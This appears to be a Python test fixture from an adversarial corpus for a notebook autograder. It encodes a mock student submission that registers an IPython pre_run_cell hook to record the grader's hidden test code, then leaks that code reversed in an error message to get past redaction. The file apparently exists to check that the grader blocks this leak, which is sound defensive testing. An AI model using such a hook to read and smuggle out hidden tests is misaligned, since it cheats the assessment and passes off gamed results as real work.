"""A `pre_run_cell` hook records the hidden tests' code; a later answer returns it, reversed, in its error.

Line-by-line redaction of hidden code recognises the hidden lines, not an
encoded copy of them; and the hidden code is sent to the student's kernel.
"""

from __future__ import annotations

from hostile.corpus import ADD_TESTS, MEAN_TESTS, SHOUT_TESTS, Case, answer

RECORD = r'''
_seen = []

def _record(info):
    text = info.raw_cell or ""
    if "HIDDEN TESTS" in text:
        _seen.append(text.split("### BEGIN HIDDEN TESTS")[-1].split("### END HIDDEN TESTS")[0])

get_ipython().events.register("pre_run_cell", _record)

def add(a: int, b: int) -> int:
    return a + b
'''

LEAK = r'''
def shout(text: str) -> str:
    raise ValueError("".join(_seen)[::-1])
'''

CASE = Case(
    attack="smuggle the hidden tests' code out in an error message, reversed",
    edits=(answer("add", RECORD), answer("shout", LEAK)),
    max_score=5,
    must_fail=SHOUT_TESTS,
    must_pass=ADD_TESTS + MEAN_TESTS,
    never_shown=("mean([0.5] * 7 + [4.0])"[::-1], "add(_i, 2 * _i)"[::-1]),
    succeeds_today="the hidden tests' source is sent to the student's kernel, where a hook reads it; "
    "redaction only recognises it verbatim",
)
